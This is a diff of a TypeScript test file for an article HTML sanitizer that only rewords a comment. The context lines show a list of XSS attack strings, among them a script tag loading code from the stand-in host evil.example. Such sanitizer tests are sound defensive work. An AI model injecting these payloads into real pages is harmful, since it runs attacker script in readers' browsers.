@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { articleHtml } from './article-html.server.ts';
 
-/** One attack each: what authors, or who took over their machine, could put into an article. */
+/** One attack each, by an author or a compromised author's machine. */
 const ATTACKS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
